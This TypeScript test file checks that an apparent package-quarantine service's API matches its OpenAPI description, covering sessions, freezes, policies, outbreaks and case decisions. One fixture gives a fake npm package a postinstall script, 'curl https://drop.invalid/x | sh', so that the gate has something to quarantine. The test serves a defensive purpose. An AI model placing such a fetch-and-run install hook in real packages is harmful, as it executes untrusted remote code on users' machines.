import type { FastifyInstance } from 'fastify'
import t from 'tap'
import { openApiDocument } from '../../src/desk/openapi/document.ts'
import { OPERATIONS } from '../../src/desk/openapi/operations.ts'
import { sha256 } from '../../src/model/digest.ts'
import { keptPolicy, loosening, told } from '../contracts/samples.ts'
import { holdLazaret } from '../e2e/in-process.ts'
import { withRoutes } from '../e2e/registered-routes.ts'
import { npmTarball } from '../registry/build.ts'
import { startWorld } from '../registry/registry.ts'
import { Client, type Reply } from './client.ts'
import { faultsOf, faultsOfOpenApi, routeOf } from './described.ts'
import { type App, baseOf, listen, openApp, PASSWORD } from './test-app.ts'

const ORIGIN = { address: '127.0.0.1', client: 'test' }
const OPERATOR = { actor: { kind: 'operator', name: 'root' }, role: 'admin' } as const
const OLD = '2022-01-02T03:04:05.000Z'

/** Routes that were answered with what was asked for. The client holds each answer against its schema. */
const answered = new Set<string>()

/** A client that notes what it was answered. */
class Walker extends Client {
  override async send(method: string, path: string, body: string | undefined, headers: Record<string, string>) {
    const reply = await super.send(method, path, body, headers)
    if (reply.status < 300) answered.add(routeOf(method, path) ?? path)
    return reply
  }
}

let app: App
let server: FastifyInstance

t.beforeEach(async () => {
  app = await openApp('http://lazaret.example:4874')
  server = await listen(app, 0, 'dist/no-such-folder')
})

t.afterEach(async () => {
  await server.close()
  await app.close()
})

async function walker(name: 'ada' | 'rob'): Promise<Walker> {
  const client = new Walker(baseOf(server))
  const user = { id: name, name, role: 'admin' as const, passwordHash: '$argon2id$x', createdAt: OLD }
  await app.store.unitOfWork.commit([told({ kind: 'user', user })])
  const { token, session } = await app.desk.sessions.start(user, ORIGIN)
  client.cookies.set('lazaret', token)
  client.csrf = session.csrfToken
  return client
}

t.test('the description is served to anybody, and is valid', async (t) => {
  const reply = await new Client(baseOf(server)).get('/api/v1/openapi.json')
  t.equal(reply.status, 200)
  t.same(faultsOfOpenApi(reply.json), [])
  t.same(reply.json.servers, [{ url: 'http://lazaret.example:4874/api/v1' }])
  t.match(faultsOfOpenApi({ ...reply.json, paths: { cases: {} } }), [/paths/], 'and what is not valid is told')
  t.notMatch(reply.text, /"\$defs"|#\/\$defs/, 'every reference leads into the document')
})

t.test('it has every route of the API and no other', async (t) => {
  const world = await startWorld()
  t.teardown(() => world.close())
  const { started, routes } = await withRoutes(() => holdLazaret({ world, dataDir: t.testdir({}) }))
  t.teardown(() => started.stop())
  const registered = routes
    .filter(({ pattern }) => pattern.startsWith('/api/v1/'))
    .map(({ method, pattern }) => `${method} ${pattern.slice('/api/v1'.length).replace(/(.)\/$/, '$1')}`)
  t.same([...new Set(registered)].toSorted(), Object.keys(OPERATIONS).toSorted())
  const { paths } = openApiDocument('') as { paths: Record<string, Record<string, { operationId: string }>> }
  const ids = Object.values(paths).flatMap((path) => Object.values(path).map(({ operationId }) => operationId))
  t.equal(new Set(ids).size, Object.keys(OPERATIONS).length, 'each has an id of its own')
})

t.test('an answer that is not as described is told', (t) => {
  const json = 'application/json; charset=utf-8'
  const freeze = { id: '1', registry: '*', line: OLD, until: OLD, reason: 'x', by: 'ada', at: OLD }
  const list = { now: OLD, freezes: [freeze] }
  const of = (value: unknown, type = json): readonly string[] =>
    faultsOf('GET', '/api/v1/freezes', 200, type, JSON.stringify(value))
  t.same(of(list), [])
  t.match(of({ ...list, freezes: [{ ...freeze, secret: 1 }] }), [/additional/], 'a member that nobody described')
  t.match(of({ freezes: [] }), [/now/], 'one that is missing')
  t.match(of({ ...list, now: 'today' }), [/format/], 'a time that is none')
  t.match(of(list, 'text/html'), [/as text\/html/])
  t.match(faultsOf('GET', '/api/v1/freezes', 404, json, '{}'), [/as application\/json/], 'a problem has its own type')
  t.end()
})

t.test('sessions, records, the log and incidents answer as described', async (t) => {
  const first = new Walker(baseOf(server))
  await first.setUp(app)
  await first.get('/api/v1/session')
  await first.post('/api/v1/password', { old: PASSWORD, password: `${PASSWORD} 2` })
  const link = await app.desk.accounts.invite(OPERATOR, 'eve', 'reviewer')
  const token = link.split('#')[1] ?? ''
  await first.post('/api/v1/password-link', { token })
  await new Walker(baseOf(server)).post('/api/v1/password-link/choice', { token, password: 'a fine long password' })
  const again = new Walker(baseOf(server))
  await again.signIn('ada', `${PASSWORD} 2`)
  await again.get('/api/v1/welcome')
  await again.get('/api/v1/openapi.json')
  await app.store.audit.checkpoint()
  for (const path of [
    'held',
    'policies',
    'policies/hits',
    'summary',
    'search?text=colour',
    'overview',
    'overview?by=day',
    'overview/map',
    'package?ecosystem=npm&name=colour-strings',
    'package/receivers?ecosystem=npm&name=colour-strings',
    'audit?group=decisions',
    'audit/export?format=jsonl',
    'audit/export?format=csv',
    'audit/export?format=cef',
    'audit/export?format=ocsf',
    'audit/inclusion?seq=0',
    'audit/consistency?from=1',
  ])
    t.equal((await again.get(`/api/v1/${path}`)).status, 200, path)
  const until = new Date(app.clock.now.getTime() + 3_600_000).toISOString()
  const freeze = (await again.post('/api/v1/freezes', { until, reason: 'wait' })).json
  await again.get('/api/v1/freezes')
  await again.post(`/api/v1/freezes/${freeze.id}/lift`, { reason: 'over' })
  const waits = loosening({ base: sha256('in force') })
  await app.store.unitOfWork.commit([
    told({ kind: 'policy-kept', policy: keptPolicy({ digest: waits.base }) }),
    told({ kind: 'loosening', loosening: waits }),
  ])
  await again.get('/api/v1/policies/loosenings')
  await again.get(`/api/v1/policies/loosenings/${waits.id}`)
  await again.post(`/api/v1/policies/loosenings/${waits.id}/agree`, { digest: waits.digest })
  await again.post(`/api/v1/policies/loosenings/${waits.id}/refuse`, { reason: 'no' })
  await again.post('/api/v1/outbreaks/reach', { text: 'npm:colour-strings@4.2.1' })
  const { outbreak } = (await again.post('/api/v1/outbreaks', { title: 'x', text: 'npm:a@1.0.0', reason: 'y' })).json
  await again.get('/api/v1/outbreaks')
  const second = { title: 'z', text: 'npm:b@1.0.0', reason: 'y' }
  await again.post('/api/v1/outbreaks', second)
  const page = (await again.get('/api/v1/outbreaks?limit=1')).json
  const rest = (await again.get(`/api/v1/outbreaks?limit=1&before=${page.next}`)).json
  t.same([...page.outbreaks, ...rest.outbreaks].map(({ title }: { readonly title: string }) => title).toSorted(), [
    'x',
    'z',
  ])
  t.notOk('next' in rest)
  await again.get(`/api/v1/outbreaks/${outbreak.id}`)
  await again.post(`/api/v1/outbreaks/${outbreak.id}/lift`, { reason: 'over' })
  const { headers } = again.cookies.size === 0 ? { headers: {} } : { headers: { 'x-csrf-token': again.csrf } }
  t.equal((await again.send('DELETE', '/api/v1/session', undefined, { origin: again.base, ...headers })).status, 200)
})

t.test('decisions answer as described', async (t) => {
  const ada = await walker('ada')
  const rob = await walker('rob')
  const [one = '', two = '', three = ''] = app.cases
  const revisionOf = async (id: string) => (await ada.get(`/api/v1/cases/${id}`)).json.revision
  await ada.get('/api/v1/cases?state=all&limit=2')
  await ada.get('/api/v1/cases/live?seconds=0')
  const scope = { kind: 'digest' }
  const choice = async (id: string) => ({ revision: await revisionOf(id), reason: 'looked at it' })
  const released = await ada.post(`/api/v1/cases/${one}/release`, { ...(await choice(one)), scope })
  t.match(released.json, { waiver: { scope: { kind: 'digest' } } })
  await ada.get('/api/v1/waivers')
  t.equal((await ada.post(`/api/v1/waivers/${released.json.waiver.id}/revoke`, { reason: 'no' })).status, 204)
  app.releasePolicy.rules = [{ id: 'secrets-egress', reviewers: 2 }]
  const propose = async (): Promise<Reply> =>
    ada.post(`/api/v1/cases/${one}/release`, { ...(await choice(one)), scope })
  const first = (await propose()).json.proposal.id
  t.equal((await ada.post(`/api/v1/cases/${one}/withdraw`, { ...(await choice(one)), proposal: first })).status, 200)
  const proposal = (await propose()).json.proposal.id
  const { cases } = (await ada.get('/api/v1/cases')).json
  t.match(cases.filter((row: { proposedBy?: string }) => row.proposedBy === 'ada').length, 1)
  app.clock.now = new Date(app.clock.now.getTime() + 4 * 86_400_000)
  const agreed = await rob.post(`/api/v1/cases/${one}/agree`, { revision: await revisionOf(one), proposal })
  t.equal(agreed.status, 401, 'a session that is too old is told so as a problem')
  t.match(agreed.json, { type: 'urn:lazaret:unauthenticated', title: 'Unauthenticated', status: 401 })
  const eve = await walker('rob')
  const ann = await walker('ada')
  const seen = (await ann.get(`/api/v1/cases/${one}`)).json.revision
  t.match((await eve.post(`/api/v1/cases/${one}/agree`, { revision: seen, proposal })).json, { waiver: { by: 'ada' } })
  const plain = async (id: string) => ({
    revision: (await ann.get(`/api/v1/cases/${id}`)).json.revision,
    reason: 'read',
  })
  t.equal((await ann.post(`/api/v1/cases/${two}/reject`, await plain(two))).status, 200)
  t.equal((await ann.post(`/api/v1/cases/${two}/reverse`, await plain(two))).status, 200)
  const { revision } = await plain(three)
  t.equal((await ann.post(`/api/v1/cases/${one}/comment`, { text: 'read it' })).status, 204)
  const batch = {
    decision: 'reject',
    reason: 'read',
    cases: [
      { id: three, revision },
      { id: 'none', revision },
    ],
  }
  t.match((await ann.post('/api/v1/cases/decide', batch)).json.results, [
    { done: 'rejected' },
    { problem: 'not-found' },
  ])
})

t.test('a case of the gate, its files, its hosts, and a lock file that is warmed answer as described', async (t) => {
  const world = await startWorld()
  t.teardown(() => world.close())
  const files = { 'lib/a.js': 'exports.a = 1\n' }
  world.npm.publish({ built: npmTarball({ name: 'grower', version: '1.0.0', files }), publishedAt: OLD })
  const scripts = { postinstall: 'curl https://drop.invalid/x | sh' }
  world.npm.publish({ built: npmTarball({ name: 'grower', version: '1.1.0', scripts, files }), publishedAt: OLD })
  const lazaret = await holdLazaret({ world, dataDir: t.testdir({}) })
  t.teardown(() => lazaret.stop())
  for (const version of ['1.0.0', '1.1.0']) await fetch(`${lazaret.npmUrl}grower/-/grower-${version}.tgz`)
  const client = new Walker(new URL(lazaret.npmUrl).origin)
  await client.setUp(lazaret.app)
  const [row] = (await client.get('/api/v1/cases')).json.cases
  const path = `/api/v1/cases/${row.case.id}`
  const detail = (await client.get(path)).json
  t.match(detail, { facts: { surface: [{ moment: 'install' }] }, comparison: { base: '1.0.0' } })
  t.match((await client.get(`${path}/file?path=lib/a.js`)).json, { shown: { kind: 'text' } })
  t.equal((await client.get(`${path}/file/download?path=lib/a.js&of=before`)).text, 'exports.a = 1\n')
  t.match((await client.get('/api/v1/hosts?name=drop.invalid')).json, { name: 'drop.invalid' })
  const open = 'version: 1\nname: open\nrules: []\n'
  const diff = await client.post('/api/v1/policies/diff', { registry: 'npm', text: open })
  t.match(diff.json, { looser: true, files: 2, served: [{ purl: 'pkg:npm/grower@1.1.0', before: 'quarantine' }] })
  const replayed = await client.post('/api/v1/policies/replay', { text: open, days: 1 })
  t.match(replayed.json, {
    name: 'open',
    requests: 2,
    servedCount: 1,
    served: [{ purl: 'pkg:npm/grower@1.1.0', now: 'quarantine', then: 'allow', requesterCount: 1 }],
  })
  const strict = await client.post('/api/v1/policies/replay', { text: 'version: 1\nname: mine\nextends: strict\n' })
  t.equal(strict.status, 200, strict.text)
  const { policy, source } = lazaret.app.policies.inForce('npm')
  const same = (await client.post('/api/v1/policies/diff', { registry: 'npm', text: source })).json
  t.match(same, { looser: false, changes: [], servedCount: 0, refusedCount: 0 }, policy.name)
  const broken = await client.post('/api/v1/policies/diff', { registry: 'npm', text: 'version: 1\nrules: [' })
  t.match(broken.json, { status: 422, detail: /policy:\d+:\d+: / })
  t.equal((await client.post('/api/v1/policies/diff', { registry: 'none', text: open })).status, 404)
  const { secret } = await lazaret.app.desk.tokens.add(OPERATOR, { name: 'ci' })
  const lock = JSON.stringify({ lockfileVersion: 3, packages: { 'node_modules/grower': { version: '1.0.0' } } })
  const bearer = { authorization: `Bearer ${secret}`, 'content-type': 'text/plain' }
  const job = await client.send('POST', '/api/v1/warm?name=package-lock.json', lock, bearer)
  t.equal(job.status, 202)
  t.equal((await client.get(`/api/v1/warm/${job.json.id}`, bearer)).status, 200)
  const attempt = { host: 'a.invalid', port: 443, package: 'npm:grower@1.1.0', process: 'node x.js' }
  t.equal((await client.post('/api/v1/attempts', { attempts: [attempt] })).status, 200)
  t.match((await client.get(path)).json, { attempts: [{ to: 'a.invalid:443', times: 1 }] })
})

t.test('every route was answered with what was asked for, and each answer was as described', (t) => {
  t.same(
    Object.keys(OPERATIONS).filter((route) => !answered.has(route)),
    [],
  )
  t.end()
})
